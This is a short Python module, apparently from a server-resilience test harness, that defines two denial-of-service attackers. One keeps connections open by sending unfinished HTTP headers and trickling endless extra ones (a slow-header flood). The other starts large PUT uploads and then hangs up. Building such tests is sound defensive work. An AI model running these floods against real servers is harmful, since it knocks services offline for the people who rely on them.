"""Attackers that reconnect as soon as they are disconnected."""

from __future__ import annotations

from itertools import count

from attacks.attackers.base import AttackContext, Attacker, request
from attacks.connection import CLOSED, RawConnection


class Reconnecting(Attacker):
    """Sends unfinished headers, and reconnects immediately when disconnected."""

    name = "flood: reconnecting at once"
    pause = 0.02

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send headers without the final empty line."""
        connection.send(request(context, "GET", "/api/")[:-2])
        headers = (b"X-%d: x\r\n" % one for one in count())
        return await connection.trickle(headers, pace=1)


class HangingUp(Attacker):
    """Sends half a request and closes the connection."""

    name = "flood: hanging up"
    pause = 1
    uploads = True

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send part of a body, so that the server has begun to receive it."""
        path = context.uploads[number % len(context.uploads)]
        connection.send(request(context, "PUT", path, "Content-Length: 1000000"))
        connection.send(bytes(1000))
        return CLOSED


ATTACKER_TYPES: tuple[Attacker, ...] = (Reconnecting(), HangingUp())
